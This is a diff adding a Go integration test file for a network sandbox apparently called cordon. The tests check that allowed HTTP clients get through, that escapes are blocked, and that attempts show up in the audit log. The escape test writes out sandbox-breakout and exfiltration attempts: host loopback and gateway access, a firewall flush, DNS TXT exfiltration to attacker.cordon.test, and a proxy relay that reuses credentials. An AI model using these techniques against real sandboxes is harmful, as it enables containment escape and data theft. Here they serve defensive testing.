@@ -1,0 +1,283 @@
+package integration
+
+import (
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/cordon-sandbox/cordon/audit"
+)
+
+// restricted runs `cordon run --net restricted` as the test user in a fresh
+// workspace, allowing the origin's ports, with script as the command.
+type restrictedRun struct {
+	ws, audit string
+	res       result
+}
+
+func runRestricted(t *testing.T, script string, extra ...string) restrictedRun {
+	t.Helper()
+	return runRestrictedIn(t, userDir(t, "cordon-it-ws-"), script, extra...)
+}
+
+// runRestrictedIn is runRestricted in a workspace the caller prepared.
+func runRestrictedIn(t *testing.T, ws, script string, extra ...string) restrictedRun {
+	t.Helper()
+	o := testOrigin(t)
+	auditDir := userDir(t, "cordon-it-audit-")
+	r := restrictedRun{ws: ws, audit: filepath.Join(auditDir, "audit.jsonl")}
+	args := append([]string{"run", "--net", "restricted", "--audit", r.audit, "--ephemeral-ca",
+		"--allow", originName + ":8443", "--allow", originName + ":8080", resolveOrigin,
+		"--extra-ca", o.caFile, "--timeout", "60s"}, extra...)
+	args = append(args, "--", "sh", "-c", script)
+	r.res = runResult(t, 90*time.Second, cordonIn(t, ws, nil, args...))
+	return r
+}
+
+func (r restrictedRun) want(t *testing.T, substrings ...string) {
+	t.Helper()
+	for _, s := range substrings {
+		if !strings.Contains(r.res.stdout, s) {
+			t.Fatalf("stdout lacks %q\nstdout:\n%s\nstderr:\n%s", s, r.res.stdout, r.res.stderr)
+		}
+	}
+}
+
+var httpsOrigin = fmt.Sprintf("https://%s:%d", originName, originHTTPS)
+
+// TestRestrictedClientsGetThrough: every common client reaches an allowed
+// host, through the proxy variables or, when it ignores them, through the
+// transparent path, and every request is an allow line.
+func TestRestrictedClientsGetThrough(t *testing.T) {
+	ws := userDir(t, "cordon-it-ws-")
+	goClient := buildGoClient(t, ws)
+	r := runRestrictedIn(t, ws, `
+set -u
+echo "proxy-env: $(curl -sS -m 10 `+httpsOrigin+`/curl-proxy | head -c 300)"
+echo "noproxy: $(curl -sS -m 10 --noproxy '*' `+httpsOrigin+`/curl-transparent | head -c 300)"
+echo "python: $(python3 -c 'import urllib.request,sys; print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode()[:300])' `+httpsOrigin+`/python)"
+echo "node: $(node -e 'fetch(process.argv[1]).then(r => r.text()).then(t => console.log(t.slice(0, 300)), e => { console.log("node failed", e.cause || e); })' `+httpsOrigin+`/node-fetch)"
+echo "go: $(`+goClient+` `+httpsOrigin+`/go)"
+git clone -q `+httpsOrigin+`/git/repo.git clone && echo "git: $(cat clone/README)"
+`)
+	if r.res.code != 0 {
+		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", r.res.code, r.res.stdout, r.res.stderr)
+	}
+	r.want(t, `proxy-env: {"method":"GET"`, `"path":"/curl-proxy"`, `"path":"/curl-transparent"`,
+		`"path":"/python"`, `"path":"/node-fetch"`, `"path":"/go"`, "git: cloned through cordon")
+	recs := readAudit(t, r.audit)
+	for _, path := range []string{"/curl-proxy", "/python", "/go"} {
+		if !hasRequest(recs, audit.KindConnect, path) {
+			t.Errorf("no allowed proxy request for %s in the audit", path)
+		}
+	}
+	for _, path := range []string{"/curl-transparent", "/node-fetch"} {
+		if !hasRequest(recs, audit.KindTransparent, path) {
+			t.Errorf("no allowed transparent request for %s in the audit", path)
+		}
+	}
+	if _, ok := findRecord(recs, audit.Record{Type: audit.TypeDecision, Kind: audit.KindDNS, Host: originName, Decision: audit.Allow}); !ok {
+		t.Error("no DNS allow line for the origin")
+	}
+}
+
+func hasRequest(recs []audit.Record, kind audit.Kind, path string) bool {
+	for _, r := range recs {
+		if r.Type == audit.TypeDecision && r.Kind == kind && r.Path == path && r.Decision == audit.Allow {
+			return true
+		}
+	}
+	return false
+}
+
+// buildGoClient compiles a small Go HTTPS client into the workspace, where
+// the sandbox can run it.
+func buildGoClient(t *testing.T, ws string) string {
+	t.Helper()
+	dir, err := os.MkdirTemp("", "cordon-it-goclient-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	src := filepath.Join(dir, "main.go")
+	os.WriteFile(src, []byte(`package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"os"
+	"time"
+)
+
+func main() {
+	c := &http.Client{Timeout: 10 * time.Second}
+	resp, err := c.Get(os.Args[1])
+	if err != nil {
+		fmt.Println("go failed:", err)
+		return
+	}
+	b, _ := io.ReadAll(resp.Body)
+	fmt.Println(string(b))
+}
+`), 0o644)
+	bin := filepath.Join(ws, "goclient")
+	cmd := exec.Command("go", "build", "-o", bin, src)
+	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GO111MODULE=off")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("build the Go client: %v\n%s", err, out)
+	}
+	os.Chmod(bin, 0o755)
+	return bin
+}
+
+// TestRestrictedEscapesFail: every other way out fails, and where the proxy
+// or the resolver can see the attempt, it is a deny line.
+func TestRestrictedEscapesFail(t *testing.T) {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	go http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "HOST-LOOPBACK-SECRET") }))
+	hostPort := ln.Addr().(*net.TCPAddr).Port
+
+	r := runRestricted(t, fmt.Sprintf(`
+try() { name=$1; shift; if "$@" >/tmp/out 2>&1; then echo "ESCAPED $name: $(head -c 200 /tmp/out)"; else echo "blocked $name"; fi; }
+try gateway-port curl -fsS -m 5 --noproxy '*' http://10.0.2.2:%[1]d/
+try gateway-port-proxy curl -fsS -m 5 http://10.0.2.2:%[1]d/
+try host-loopback curl -fsS -m 5 --noproxy '*' http://127.0.0.1:%[1]d/
+try host-loopback-proxy curl -fsS -m 5 http://127.0.0.1:%[1]d/
+try raw-tcp-origin curl -fsS -m 5 --noproxy '*' http://%[2]s:%[3]d/
+try denied-name curl -sS -m 5 --noproxy '*' https://denied.cordon.test/
+try denied-proxy curl -sS -m 5 https://denied.cordon.test/
+try dns-denied getent hosts denied.cordon.test
+try ipv6 curl -sS -m 5 -6 http://[2001:db8::1]/
+try ping ping -c 1 -W 2 %[2]s
+try udp python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(("%[2]s", 9999)); s.send(b"x"); s.recv(10)'
+try nft-flush nft flush ruleset
+try txt-exfil python3 -c '
+import socket, struct, sys
+q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+for label in b"c2VjcmV0.attacker.cordon.test".split(b"."): q += bytes([len(label)]) + label
+q += b"\x00" + struct.pack(">HH", 16, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, ("10.0.2.3", 53))
+r = s.recv(512); rcode = r[3] & 15; ancount = struct.unpack(">H", r[6:8])[0]
+sys.exit(0 if rcode == 0 and ancount > 0 else 1)'
+try self-built-relay python3 -c '
+import os, socket, base64, urllib.parse, sys
+u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+s = socket.create_connection((u.hostname, u.port), timeout=5)
+auth = base64.b64encode(("%%s:%%s" %% (u.username, u.password)).encode()).decode()
+s.sendall(("CONNECT denied.cordon.test:443 HTTP/1.1\r\nHost: denied.cordon.test:443\r\nProxy-Authorization: Basic " + auth + "\r\n\r\n").encode())
+sys.exit(0 if b" 200 " in s.recv(100) else 1)'
+true
+`, hostPort, originAddr, originOtherTCP))
+	if r.res.code != 0 {
+		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", r.res.code, r.res.stdout, r.res.stderr)
+	}
+	if strings.Contains(r.res.stdout, "ESCAPED") || strings.Contains(r.res.stdout, "HOST-LOOPBACK-SECRET") {
+		t.Fatalf("an escape worked:\n%s", r.res.stdout)
+	}
+	for _, name := range []string{"gateway-port", "gateway-port-proxy", "host-loopback", "host-loopback-proxy", "raw-tcp-origin", "denied-name", "denied-proxy", "dns-denied",
+		"ipv6", "ping", "udp", "nft-flush", "txt-exfil", "self-built-relay"} {
+		if !strings.Contains(r.res.stdout, "blocked "+name+"\n") {
+			t.Errorf("attempt %s did not report blocked:\n%s", name, r.res.stdout)
+		}
+	}
+	recs := readAudit(t, r.audit)
+	for _, want := range []audit.Record{
+		{Type: audit.TypeDecision, Kind: audit.KindTransparent, Host: "10.0.2.2", Port: hostPort, Decision: audit.Deny},
+		{Type: audit.TypeDecision, Kind: audit.KindTransparent, Host: originAddr, Port: originOtherTCP, Decision: audit.Deny},
+		{Type: audit.TypeDecision, Kind: audit.KindDNS, Host: "denied.cordon.test", Decision: audit.Deny},
+		{Type: audit.TypeDecision, Kind: audit.KindDNS, Decision: audit.Deny, Reason: "dns_type"},
+		{Type: audit.TypeDecision, Kind: audit.KindConnect, Host: "denied.cordon.test", Port: 443, Decision: audit.Deny},
+	} {
+		if _, ok := findRecord(recs, want); !ok {
+			t.Errorf("no audit line like %+v", want)
+		}
+	}
+}
+
+// TestRestrictedDiesWithCordon: killing cordon (and with it the proxy and
+// resolver) ends the sandbox and slirp4netns; nothing is left to get out.
+func TestRestrictedDiesWithCordon(t *testing.T) {
+	o := testOrigin(t)
+	ws := userDir(t, "cordon-it-ws-")
+	auditDir := userDir(t, "cordon-it-audit-")
+	marker := fmt.Sprintf("cordon-it-marker-%d", time.Now().UnixNano())
+	cmd := cordonIn(t, ws, nil, "run", "--net", "restricted", "--audit", filepath.Join(auditDir, "a.jsonl"), "--ephemeral-ca",
+		"--allow", originName+":8443", resolveOrigin, "--extra-ca", o.caFile, "--",
+		"sh", "-c", "(sh -c 'while :; do curl -s -m 2 "+httpsOrigin+"/alive >/dev/null; sleep 0.2; done; : "+marker+"' &) ; sleep 600")
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	deadline := time.Now().Add(20 * time.Second)
+	for !processWith(marker) || !hasRequest(readAuditIfAny(filepath.Join(auditDir, "a.jsonl")), audit.KindConnect, "/alive") {
+		if time.Now().After(deadline) {
+			cmd.Process.Kill()
+			t.Fatal("the sandboxed loop never started")
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	cmd.Process.Signal(syscall.SIGKILL)
+	cmd.Wait()
+	deadline = time.Now().Add(10 * time.Second)
+	for processWith(marker) || processWith("slirp4netns --configure") && slirpOf(cmd.Process.Pid) {
+		if time.Now().After(deadline) {
+			t.Fatal("the sandboxed loop or slirp4netns outlived cordon")
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+}
+
+// processWith reports whether a shell whose command line contains s runs.
+func processWith(s string) bool {
+	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
+	for _, p := range procs {
+		b, err := os.ReadFile(p)
+		line := strings.ReplaceAll(string(b), "\x00", " ")
+		if err == nil && strings.HasPrefix(line, "sh -c ") && strings.Contains(line, s) {
+			return true
+		}
+	}
+	return false
+}
+
+// readAuditIfAny reads an audit log that may not exist yet.
+func readAuditIfAny(path string) []audit.Record {
+	var recs []audit.Record
+	data, _ := os.ReadFile(path)
+	for _, l := range strings.Split(string(data), "\n") {
+		var r audit.Record
+		if json.Unmarshal([]byte(l), &r) == nil {
+			recs = append(recs, r)
+		}
+	}
+	return recs
+}
+
+// slirpOf reports whether a slirp4netns child of pid is still running.
+func slirpOf(pid int) bool {
+	procs, _ := filepath.Glob("/proc/[0-9]*/stat")
+	for _, p := range procs {
+		b, err := os.ReadFile(p)
+		if err != nil || !strings.Contains(string(b), "(slirp4netns)") {
+			continue
+		}
+		f := strings.Fields(string(b)[strings.LastIndexByte(string(b), ')')+1:])
+		if len(f) > 1 && f[1] == fmt.Sprint(pid) {
+			return true
+		}
+	}
+	return false
+}
